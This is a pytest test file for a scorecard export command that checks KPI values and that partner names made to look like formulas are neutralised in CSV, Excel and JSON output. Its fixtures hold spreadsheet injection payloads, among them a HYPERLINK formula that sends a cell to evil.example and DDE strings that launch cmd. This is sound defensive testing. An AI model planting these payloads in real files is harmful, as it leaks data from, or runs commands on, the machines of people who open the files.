"""`govdocs export`: the scorecard as CSV, Excel or JSON -- the documents' numbers, safe to open."""

from __future__ import annotations

import csv
import io
import json
import math
import re
import time
from datetime import date
from io import BytesIO
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import CONFIG, DATA
from hypothesis import assume, given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from govdocs.cli import cli
from govdocs.render.tables import FORMULA_TRIGGERS, to_csv, to_json, to_xlsx

HOSTILE = {
    "partner": '=HYPERLINK("http://evil.example/?leak="&A1,"Atlas")',
    "service_level": "+cmd|' /C calc'!A0",
    "asa": "-2+3",
    "abandonment": "@SUM(1+1)*cmd|' /C calc'!A0",
    "aht": "=1+1",
}


def export(out: Path, config: Path = CONFIG, *extra: str):
    args = ["export", "--config", str(config), "--data", str(DATA), "--quarter", "2026-Q3", "--out", str(out)]
    return CliRunner().invoke(cli, [*args, *extra])


@pytest.fixture(scope="module")
def hostile_config(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The example config with a partner name and KPI names a spreadsheet would execute."""
    text = CONFIG.read_text(encoding="utf-8")
    text = text.replace("name: Atlas Contact Solutions", f"name: {json.dumps(HOSTILE['partner'])}", 1)
    for kpi, name in {
        "service_level": "Service level",
        "asa": "Average speed of answer",
        "abandonment": "Abandonment rate",
        "aht": "Average handle time",
    }.items():
        assert f"name: {name}\n" in text
        text = text.replace(f"name: {name}\n", f"name: {json.dumps(HOSTILE[kpi])}\n", 1)
    path = tmp_path_factory.mktemp("hostile") / "governance.yaml"
    path.write_text(text, encoding="utf-8")
    return path


def texts(cells) -> list[str]:
    return [c for c in cells if isinstance(c, str)]


def test_csv_has_the_documents_numbers(tmp_path: Path):
    out = tmp_path / "scores.csv"
    result = export(out)
    assert result.exit_code == 0, result.output
    assert result.output == f"wrote {out}  (40 rows: partner x KPI, 2026-Q3)\n"
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    brv = {r["kpi"]: r for r in rows if r["partner"] == "BRV"}
    # Bravo's service level slipped below its floor all quarter (the QBR's red KPI).
    sl = brv["service_level"]
    assert (sl["2026-07 value"], sl["2026-08 value"], sl["2026-09 value"]) == ("76.484976", "73.20608", "72.406261")
    assert (sl["2026-07 status"], sl["2026-08 status"], sl["2026-09 status"]) == ("amber", "red", "red")
    assert sl["quarter_status"] == "red" and sl["points"] == "0"
    # its CSAT and FCR are not statistically clear (about 500 surveys a month, near target): counted
    # at their measured values, with a range of 56.0–68.0 that reaches two tiers, as the QBR states it
    assert brv["csat"]["quarter_status"] == brv["fcr"]["quarter_status"] == "not_clear"
    assert sl["partner_score"] == "62" and sl["score_incomplete"] == "True"
    assert sl["tier"] == "At risk or Watch, provisional"
    # August is relieved (volume 23% over forecast) and the score's trigger is provisional (issue 32)
    assert sl["escalation"] == "Watch"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".json"])
def test_formula_like_text_is_never_a_formula(tmp_path: Path, hostile_config: Path, suffix: str):
    out = tmp_path / f"scores{suffix}"
    result = export(out, hostile_config)
    assert result.exit_code == 0, result.output
    if suffix == ".csv":
        cells = [c for row in csv.reader(out.open(encoding="utf-8", newline="")) for c in row]
    elif suffix == ".xlsx":
        sheet = load_workbook(out).active
        assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
        cells = [cell.value for row in sheet.iter_rows() for cell in row]
    else:
        cells = [v for record in json.loads(out.read_text(encoding="utf-8")) for v in record.values()]
    written = texts(cells)
    for hostile in HOSTILE.values():
        if suffix == ".json":  # JSON is data, not a spreadsheet: text stays exactly as given
            assert hostile in written
        else:
            assert "'" + hostile in written
            assert hostile not in written
    if suffix != ".json":
        assert not [c for c in written if c.startswith(FORMULA_TRIGGERS)]


def test_tab_and_carriage_return_prefixes_are_neutralised_too(tmp_path: Path):
    # The config strips leading whitespace from names; free text reaching the writer may not be.
    # (quoted, as each holds a separator; the tab and the line break get their own apostrophe)
    assert to_csv(["a", "b"], [["\t=1+1", "\r=1+1"]]).decode() == "a,b\r\n\"'\t'=1+1\",\"'\r'=1+1\"\r\n"
    sheet = load_workbook(BytesIO(to_xlsx(["a"], [["\t=1+1"], ["=1+1"]], "s", date(2026, 9, 30)))).active
    assert [c.value for c in sheet["A"]] == ["a", "'\t=1+1", "'=1+1"]
    assert all(c.data_type == "s" for c in sheet["A"])
    # Negative numbers stay numbers: only text is neutralised.
    assert to_csv(["v"], [[-5.5]]).decode() == "v\r\n-5.5\r\n"


def test_json_never_holds_nan_or_infinity(tmp_path: Path):
    text = to_json(["a", "b", "c"], [[math.nan, math.inf, -math.inf], [1.5, None, "x"]]).decode()
    assert json.loads(text, parse_constant=lambda name: pytest.fail(f"{name} in JSON")) == [
        {"a": None, "b": None, "c": None},
        {"a": 1.5, "b": None, "c": "x"},
    ]
    assert to_csv(["a", "b"], [[math.nan, math.inf]]).decode() == "a,b\r\n,\r\n"


def test_missing_months_are_null_in_json(tmp_path: Path):
    out = tmp_path / "scores.json"
    assert export(out).exit_code == 0
    records = json.loads(out.read_text(encoding="utf-8"), parse_constant=lambda name: pytest.fail(name))
    no_data = [r for r in records if r["2026-08 status"] == "no_data"]
    assert no_data and all(r["2026-08 value"] is None for r in no_data)


def test_same_rows_give_the_same_bytes(tmp_path: Path):
    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    assert export(first).exit_code == 0
    time.sleep(1.1)  # the workbook's own "modified" stamp has whole seconds: two exports a second apart
    assert export(second).exit_code == 0
    assert first.read_bytes() == second.read_bytes()


def test_existing_file_is_kept_and_unknown_format_refused(tmp_path: Path):
    out = tmp_path / "scores.csv"
    out.write_text("mine", encoding="utf-8")
    result = export(out)
    assert result.exit_code == 6
    assert result.stderr == f"error: {out}: document exists; pass --force to replace it [output.exists]\n"
    assert out.read_text(encoding="utf-8") == "mine"
    assert export(out, CONFIG, "--force").exit_code == 0
    result = export(tmp_path / "scores.ods")
    assert result.exit_code == 2
    assert "name the file .csv, .xlsx, .json or .parquet" in result.stderr
    assert not (tmp_path / "scores.ods").exists()


# --- no separator starts a formula (issue 33 point 8) --------------------------------------------

TRIGGERS = ("=", "+", "-", "@")


def _formula_cells(text: str, separator: str) -> list[str]:
    """The cells a reader that splits on `separator` would run as formulas: with the quotes
    honoured (csv), and ignoring them, line by line (a naive reader)."""
    honoured = [c for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator) for c in row]
    naive = [c.strip().strip('"') for line in re.split(r"[\r\n]+", text) for c in line.split(separator)]
    return [c for c in honoured + naive if c.lstrip().startswith(TRIGGERS) and not _number(c)]


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


@settings(max_examples=300, deadline=None, derandomize=True, database=None)
@given(st.lists(st.text(alphabet="ab =+-@;,\t\r\n\"'", max_size=12), min_size=1, max_size=4))
def test_no_separator_can_start_a_formula_in_a_csv_cell(cells: list[str]):
    text = to_csv(["name"] * len(cells), [cells]).decode("utf-8")
    for separator in (",", ";", "\t"):
        assert _formula_cells(text, separator) == [], (separator, text)
    # the comma reader gets the cells back, each one cell, apostrophes aside (a row of one
    # empty cell is a blank line: CSV cannot tell it from no row)
    assume(cells != [""])
    (_, row) = list(csv.reader(io.StringIO(text, newline="")))
    assert [c.replace("'", "") for c in row] == [c.replace("'", "") for c in cells]


def test_a_partner_named_like_a_formula_is_one_inert_cell_in_the_export_and_the_attachment(tmp_path: Path):
    """'Bravo;=1+1;x' as a partner name: a spreadsheet whose list separator is ';' saw a formula."""
    from pypdf import PdfReader

    text = CONFIG.read_text(encoding="utf-8").replace("name: Bravo CX Partners", 'name: "Bravo;=1+1;x"', 1)
    config = tmp_path / "governance.yaml"
    config.write_text(text, encoding="utf-8")
    out = tmp_path / "scores.csv"
    assert export(out, config).exit_code == 0
    exported = out.read_text(encoding="utf-8")
    assert '"Bravo;\'=1+1;x"' in exported
    pdf = tmp_path / "docs"
    args = ["qbr", "--config", str(config), "--data", str(DATA), "--quarter", "2026-Q3", "--partner", "BRV"]
    args += ["--as-of", "2026-10-15", "--out", str(pdf), "--pdf-variant", "pdf/a-3u", "--jobs", "0"]
    result = CliRunner().invoke(cli, args)
    assert result.exit_code == 0, result.output
    (attached,) = PdfReader(pdf / "2026-Q3" / "qbr-BRV-partner.pdf").attachments.values()
    attachment = attached[0].decode("utf-8")
    for written in (exported, attachment):
        for separator in (",", ";", "\t"):
            assert _formula_cells(written, separator) == [], separator
